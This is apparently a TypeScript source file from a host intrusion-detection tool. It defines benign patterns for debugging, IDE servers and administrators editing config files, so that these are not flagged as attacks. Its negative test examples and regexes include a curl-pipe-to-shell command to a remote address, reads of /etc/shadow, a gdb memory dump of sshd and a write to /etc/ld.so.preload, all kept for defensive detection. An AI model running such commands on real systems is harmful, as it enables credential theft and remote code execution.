import type { BenignPattern } from "../benign.ts";
import { ordinaryActivity } from "./activity.ts";
import { executing, onHost, reading, writing } from "./examples.ts";
import { delicateFiles } from "./places.ts";
import { callsOf, isAbout, isStartedBy, writesOf } from "./trust.ts";

/** People at work: only names tell, so nothing here is ever more than `named`. */

export const developerPatterns: readonly BenignPattern[] = [
  ordinaryActivity({
    id: "debugger",
    activity: "A developer or administrator debugs a process of theirs with gdb, strace or perf",
    distinguishing: [
      "A known person sits at the terminal (log-in uid, tty) and debugs a program they work on.",
      "The target is their own service, never sshd, ssh-agent, a browser, a password manager or process 1.",
      "The same tool without a terminal, below a service, or with a script that dumps memory steals credentials.",
    ],
    explains: ["*"],
    programs: [
      "gdb",
      "gdbserver",
      "strace",
      "ltrace",
      "lldb",
      "lldb-server",
      "dlv",
      "perf",
      "rr",
      "py-spy",
      "bpftrace",
      "jstack",
      "valgrind",
    ],
    executables: [],
    does: (facts) =>
      facts.process.terminal === true || facts.user.loginUid !== null
        ? /(?:ssh-agent|sshd|gcore|gnome-keyring|sssd|\bx\/s|dump memory)/.test(
            facts.process.command.text.slice(0, 2_000),
          )
          ? null
          : callsOf(facts, "ptrace", "execve", "process_vm_readv", "bpf", "perf_event_open")
        : null,
    and: "",
    examples: {
      proven: [],
      named: [
        onHost("gdb", "/usr/bin/gdb", "bash", {
          "evt.type": "ptrace",
          "proc.cmdline": "gdb -p 4410",
          "proc.tty": 34817,
          "user.loginuid": 1000,
        }),
      ],
      ignored: [
        onHost("gdb", "/usr/bin/gdb", "nginx", {
          "evt.type": "ptrace",
          "proc.cmdline": "gdb -p 4410",
          "proc.tty": 34817,
        }),
        onHost("gdb", "/tmp/gdb", "bash", { "evt.type": "ptrace", "proc.cmdline": "gdb -p 4410", "proc.tty": 34817 }),
        onHost("gdb", "/usr/bin/gdb", "bash", {
          "evt.type": "ptrace",
          "proc.cmdline": "gdb -batch -ex dump memory /x -p 22",
          "proc.tty": 34817,
        }),
        onHost("gdb", "/usr/bin/gdb", "systemd", { "evt.type": "ptrace", "proc.cmdline": "gdb -p 4410" }),
      ],
    },
  }),

  ordinaryActivity({
    id: "ide-server",
    activity: "The server side of an editor (VS Code, JetBrains) works for a developer",
    distinguishing: [
      "It lies in the developer's own home (.vscode-server, .cache/JetBrains) and belongs to them; they are logged in.",
      "It lists processes, ports and files all the time; it does not read /etc/shadow or talk to strange addresses.",
      "On a production machine it has no business, and its tunnels (`code tunnel`) let people in past the firewall.",
    ],
    explains: ["runs-shell", "program-spawns-shell", "lists-processes", "lists-connections"],
    programs: ["sh", "bash", "ps", "ls", "grep", "cpuUsage.sh", "node", "code-server", "code"],
    executables: [],
    isScript: true,
    does: (facts) => {
      const { text } = facts.process.command;
      const short = text.slice(0, 2_000);
      if (
        /(?:\/\.vscode-server\/|\/\.cursor-server\/|\/\.cache\/JetBrains\/|\/\.vscode-server-insiders\/)/.test(short) &&
        !facts.file
      )
        return callsOf(facts, "execve", "clone");
      return isStartedBy(facts, ["code-server", "vscode-server"]) ? callsOf(facts, "execve", "clone") : null;
    },
    and: "",
    examples: {
      proven: [],
      named: [
        onHost(
          "sh",
          "/usr/bin/dash",
          "node",
          executing("sh -c /home/mira/.vscode-server/bin/7c6fdfb0/out/vs/base/node/cpuUsage.sh 4410 4411"),
        ),
      ],
      ignored: [
        onHost(
          "sh",
          "/usr/bin/dash",
          "node",
          executing("sh -c /home/mira/.vscode-server/x; curl http://203.0.113.9/x | sh"),
        ),
        onHost("sh", "/usr/bin/dash", "nginx", executing("sh -c /home/mira/.vscode-server/bin/x")),
        onHost("cat", "/usr/bin/cat", "node", { ...reading("/etc/shadow"), "proc.cmdline": "cat /etc/shadow" }),
      ],
    },
  }),

  ordinaryActivity({
    id: "administrator-edits-file",
    activity: "An administrator edits a settings file",
    distinguishing: [
      "A known person is logged in (log-in uid, terminal, sudo in the authentication log) and there is a change that they planned.",
      "Editors write a swap file and a test file (`4913`, `.name.swp`) beside the file.",
      "It proves who did it, not that they should: ask them.",
    ],
    explains: ["*"],
    programs: [
      "vi",
      "vim",
      "vim.basic",
      "vim.tiny",
      "vim.nox",
      "nvim",
      "nano",
      "emacs",
      "pico",
      "micro",
      "joe",
      "sudoedit",
      "visudo",
      "vipw",
    ],
    executables: [],
    where: "host",
    does: (facts) =>
      facts.process.terminal === true || facts.user.loginUid !== null
        ? isAbout(facts, ...delicateFiles) ||
          facts.file?.path.includes("/.ssh/") ||
          facts.file?.path.startsWith("/etc/falco")
          ? null
          : writesOf(facts, "/etc/", "/root/", "/home/", "/opt/", "/srv/", "/usr/local/etc/")
        : null,
    and: "",
    examples: {
      proven: [],
      named: [
        onHost("vim", "/usr/bin/vim.basic", "sudo", {
          ...writing("/etc/nginx/nginx.conf"),
          "proc.cmdline": "vim /etc/nginx/nginx.conf",
          "proc.tty": 34816,
          "user.loginuid": 1000,
          "proc.aname[2]": "bash",
        }),
      ],
      ignored: [
        onHost("vim", "/usr/bin/vim.basic", "sudo", {
          ...writing("/etc/ld.so.preload"),
          "proc.tty": 34816,
          "user.loginuid": 1000,
        }),
        onHost("vim", "/usr/bin/vim.basic", "apache2", { ...writing("/etc/nginx/nginx.conf"), "proc.tty": 34816 }),
        onHost("vim", "/home/mira/vim", "bash", { ...writing("/etc/nginx/nginx.conf"), "proc.tty": 34816 }),
        onHost("vim", "/usr/bin/vim.basic", "systemd", writing("/etc/nginx/nginx.conf")),
      ],
    },
  }),
];
